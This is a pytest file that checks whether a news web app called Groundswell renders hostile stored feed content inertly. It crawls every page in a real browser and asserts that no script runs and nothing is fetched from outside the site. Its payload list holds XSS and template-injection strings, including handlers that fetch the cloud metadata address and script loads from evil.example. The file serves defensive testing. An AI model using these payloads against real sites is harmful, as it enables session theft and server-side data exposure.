"""All pages with hostile stored content, in a real browser that would run any script on them."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from urllib.parse import urldefrag

import pytest
from playwright.sync_api import Page

from groundswell import Groundswell
from groundswell.feeds.identity import build_article
from groundswell.feeds.offers import offer_article
from groundswell.model import Entry, Origin, Outcome
from groundswell.ports import Retrieved
from groundswell.testing.hostile.case import ReceivedRequest
from groundswell.testing.hostile.content import CONTENT
from groundswell.web.app import create_app

from .browsing import NEEDS_BROWSER, launch, serve

MOST_PAGES = 50
NOW = datetime(2024, 10, 1, 9, tzinfo=UTC)

PAYLOADS = [
    "<script>window.owned=1;alert(1)</script>",
    "<img src=x onerror=\"window.owned=1;fetch('http://169.254.169.254/')\">",
    "\"><svg onload=window.owned=1><image href='http://evil.example/i.png'/></svg>",
    "'\" autofocus onfocus=window.owned=1 x='",
    "</title></script><script src=//evil.example/x.js></script>",
    '</script><script>window.owned=1</script><script type=\'application/ld+json\'>{"a":"',
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
]

LIVE = """() => [
    ...document.querySelectorAll('script:not([type="application/ld+json"]), iframe, object, embed, base'),
    ...document.querySelectorAll('meta[http-equiv]'),
    ...[...document.querySelectorAll('*')].filter(one => [...one.attributes].some(
        part => part.name.startsWith('on') || /^\\s*(javascript|vbscript):/i.test(part.value))),
].map(one => one.outerHTML.slice(0, 200))"""

pytestmark = NEEDS_BROWSER


def through_the_feed(groundswell: Groundswell) -> None:
    """Store hostile feeds in the usual way."""
    groundswell.register_sources()
    state = next(iter(groundswell.feed_states().values()))
    for case in CONTENT:
        body = b"".join(case.answer(ReceivedRequest("http://127.0.0.1", "", {})).body)
        body = body.replace(b"<item><title>", b"<item><title>Fed cuts interest rates, small caps rally: ")
        groundswell.take_feed(state, Retrieved(Outcome.OK, "HTTP 200", body, "application/xml"))


def past_the_cleaner(groundswell: Groundswell) -> None:
    """Store live markup in every field of a feed, as if nothing had been sanitised."""
    entry = Entry("f", "", "", "", "", url=None, published_at=NOW - timedelta(hours=1))
    made = []
    for place, payload in enumerate(PAYLOADS):
        dirty = replace(
            entry,
            guid=f"dirty {place}",
            publisher=f"Wire {payload}",
            title=f"Fed cuts interest rates {place} {payload}",
            text=f"The Federal Reserve cuts rates, says Acme {payload}. Small caps rally {payload}.",
            url="javascript:window.owned=1" if place % 2 else f'https://evil.example/{place}"onclick="window.owned=1',
        )
        made.append(build_article(dirty, NOW, Origin.LIVE))
    groundswell._ingest.add([offer_article(article) for article in made])


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    store = tmp_path_factory.mktemp("hostile") / "store.db"
    with Groundswell.open(str(store), clock=lambda: NOW) as groundswell:
        through_the_feed(groundswell)
        past_the_cleaner(groundswell)
        with serve(lambda address: create_app(groundswell, address)) as address:
            yield address


def crawl(page: Page, site: str) -> tuple[dict[str, str], list[str]]:
    """Follow the links within the site, stories first; return the texts of the pages and any live markup."""
    seen: dict[str, str] = {}
    found: list[str] = []
    waiting = [site + "/"]
    while waiting and len(seen) < MOST_PAGES:
        waiting.sort(key=lambda one: "/stories/" not in one)
        url = waiting.pop(0)
        page.goto(url, wait_until="load")
        seen[url] = page.inner_text("body")
        found += [f"{url}: {live}" for live in page.evaluate(LIVE)]
        if page.evaluate("window.owned"):
            found.append(f"{url}: a script ran")
        for link in page.evaluate("[...document.querySelectorAll('a[href]')].map(link => link.href)"):
            within = urldefrag(link)[0]
            is_file = within.endswith((".atom", ".json", ".csv", ".png", ".zip")) or "/api/" in within
            if within.startswith(site) and not is_file and within not in seen and within not in waiting:
                waiting.append(within)
    return seen, found


@pytest.mark.parametrize("trusting", [True, False], ids=["policy off", "policy on"])
def test_no_hostile_content_becomes_active_on_any_page(address: str, trusting: bool) -> None:
    """Without the content security policy escaping alone must protect; with it there must be no violations."""
    elsewhere: list[str] = []
    complaints: list[str] = []
    with launch() as browser:
        context = browser.new_context(bypass_csp=trusting)
        context.on("request", lambda request: request.url.startswith(address) or elsewhere.append(request.url))
        context.route(lambda url: not url.startswith(address), lambda route: route.abort())
        page = context.new_page()
        page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        seen, found = crawl(page, address)
    shown = "".join(text for url, text in seen.items() if "/stories/" in url)
    assert [payload for payload in PAYLOADS if payload not in shown] == [], "shown as the plain text that it is"
    assert any("/claims/" in url for url in seen)
    assert {f"{address}/status", f"{address}/hubs/fomc"} <= set(seen)
    assert (found, elsewhere, complaints) == ([], [], [])
